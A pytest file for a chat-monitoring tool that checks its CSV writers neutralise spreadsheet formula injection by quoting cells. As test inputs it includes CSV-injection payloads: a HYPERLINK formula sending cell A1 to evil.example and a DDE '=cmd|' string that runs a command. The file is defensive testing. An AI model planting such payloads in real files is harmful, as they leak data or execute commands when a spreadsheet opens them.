"""Issue 18: csv cells that begin with = + - @ tab CR are written so a spreadsheet shows text
(OWASP's CSV-injection guidance: a leading single quote), and chatmon reads its own csv back unchanged."""

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from fake_classifier import FixedClassifier
from monitor.csv_safety import TRIGGERS, escape_cell, escape_frame, unescape_cell
from monitor.detect.classify import _csv
from monitor.detect.types import LABELS, Classification
from monitor.ingest import read_file
from monitor.ingest.writers import write_export
from monitor.scan import run_scan
from monitor.schema import conform, write_messages
from monitor.timing import write_sessions

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我领券")', "=cmd|' /C calc'!A0", "+86 138", "-1+1",
           "@SUM(1+1)", "\t=1", "\r=1"]


def test_formula_like_cells_get_one_leading_quote():
    assert [escape_cell(s) for s in HOSTILE] == ["'" + s for s in HOSTILE]


def test_a_quote_is_added_only_where_it_is_needed_to_stay_reversible():
    assert [escape_cell(s) for s in ["'=1", "''+x", "'hello", "hello", "", "在吗", "1-2", "a=b"]] == \
        ["''=1", "'''+x", "'hello", "hello", "", "在吗", "1-2", "a=b"]
    assert [escape_cell(v) for v in [None, 3, -1.5]] == [None, 3, -1.5]


def test_unescape_removes_exactly_the_added_quote():
    assert [unescape_cell(s) for s in ["'=1", "''=1", "'hello", "''", "=1"]] == ["=1", "'=1", "'hello", "''", "=1"]


prefixes = st.lists(st.sampled_from(["'", *TRIGGERS]), max_size=4).map("".join)
# ingest never yields a NUL (a JSON "\u0000" is read as ␀): a file holding one reads as binary
file_prefixes = st.lists(st.sampled_from(["'", *TRIGGERS[:-1]]), max_size=4).map("".join)


@settings(max_examples=300, deadline=None)
@given(prefix=prefixes, rest=st.text(max_size=20))
def test_escape_round_trips_and_never_leaves_a_formula(prefix, rest):
    s = prefix + rest
    e = escape_cell(s)
    assert unescape_cell(e) == s
    assert not e.startswith(TRIGGERS)


def _messages(texts, senders=None):
    n = len(texts)
    senders = senders or ["甲店:小美"] * n
    return conform(pd.DataFrame({
        "shop": ["甲店"] * n, "conversation_id": ["甲店|=buyer"] * n, "buyer": ["=buyer"] * n,
        "sender": senders, "role": ["agent"] * n,
        "ts": pd.date_range("2026-11-22 10:00:00", periods=n, freq="min"), "text": texts,
        "order_id": [None] * n, "source": [f"x.csv:{i}" for i in range(n)]}))


def _cells(path, encoding="utf-8-sig"):
    with open(path, encoding=encoding, newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_ingest_csv_escapes_every_formula_like_cell_and_reads_back_unchanged(tmp_path):
    texts = [*HOSTILE, "'=already quoted", "'plain quote"]
    msgs = _messages(texts)
    p = tmp_path / "m.csv"
    write_messages(msgs, p, "csv")
    cells = _cells(p)
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert "'=buyer" in cells and "''=already quoted" in cells and "'plain quote" in cells
    df, info = read_file(p)
    assert info.reader == "canonical"
    assert df["text"].tolist() == texts and set(df["buyer"]) == {"=buyer"}


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(file_prefixes, st.text(alphabet="亲=+-@'\t在吗ab ,\"\n", max_size=12)).map("".join)
                .filter(lambda t: t.strip()), min_size=1, max_size=5))
def test_ingest_csv_round_trip_property(tmp_path_factory, texts):
    p = tmp_path_factory.mktemp("rt") / "m.csv"
    write_messages(_messages(texts), p, "csv")
    df, _ = read_file(p)
    assert df["text"].tolist() == texts


def test_table_csv_writer_escapes_and_its_reader_unescapes(tmp_path):
    msgs = _messages(["=1+1", "'=2", "-_-"])
    p = tmp_path / "t.csv"
    write_export(msgs, p, "table_csv")
    assert not [c for c in _cells(p, "utf-8") if c.startswith(TRIGGERS)]
    df, info = read_file(p)
    assert info.reader == "table_csv" and df["text"].tolist() == ["=1+1", "'=2", "-_-"]


def test_flagged_csv_holds_no_formula(tmp_path):
    d = tmp_path / "exports"
    d.mkdir()
    (d / "a.csv").write_text(
        "店铺,客户名,发送时间,发送内容,发送账号,账号类型\n"
        "甲店,tb_a,2026-11-22 10:00:00,在吗,tb_a,买家\n"
        '甲店,tb_a,2026-11-22 10:00:20,"=HYPERLINK(""http://x.example"",""加我微信"")",甲店:小美,客服\n'
        "甲店,tb_a,2026-11-22 10:00:40,@加我微信,=小美,客服\n", encoding="utf-8")
    out = tmp_path / "out"
    run_scan([str(d)], out_dir=out, classifier=FixedClassifier({"加我微信": ("diversion", 0.9)}), echo=lambda m: None)
    (flagged,) = out.rglob("flagged.csv")
    cells = _cells(flagged)
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    # (the masking of the message's words is report-money's: only the escape is asserted here)
    assert [c[:4] for c in cells if c.startswith("'")] == ["'=HY", "'=小美", "'@加我"]


def test_classify_csv_output_escapes_the_text():
    ok = Classification("=1+1", [], {lab: 0.0 for lab in LABELS}, [])
    rows = list(csv.reader(io.StringIO(_csv([ok]))))
    assert rows[1][0] == "'=1+1"


def test_latency_csv_escapes_names(tmp_path):
    sessions = pd.DataFrame([{"session_id": "=s1", "shop": "+店", "conversation_id": "=c", "buyer": "@b",
                              "agent": "-a", "start": "2026-11-22 10:00:00", "end": "2026-11-22 10:01:00",
                              "first_response_s": 5.0, "mean_response_s": 5.0, "max_response_s": 5.0,
                              "waits": 1, "slow_waits": 0, "unanswered": 0, "within_3min_rate": 1.0}])
    from monitor.timing import LATENCY_JSON_KEYS
    sessions = sessions.reindex(columns=LATENCY_JSON_KEYS)
    for k in LATENCY_JSON_KEYS:
        if sessions[k].isna().all():
            sessions[k] = "x"
    p = tmp_path / "s.csv"
    write_sessions(sessions, str(p), "csv")
    assert not [c for c in _cells(p) if c.startswith(TRIGGERS)]


def test_escape_frame_leaves_numbers_alone():
    df = escape_frame(pd.DataFrame({"a": ["=x", "y"], "n": [-1, 2]}))
    assert df["a"].tolist() == ["'=x", "y"] and df["n"].tolist() == [-1, 2]
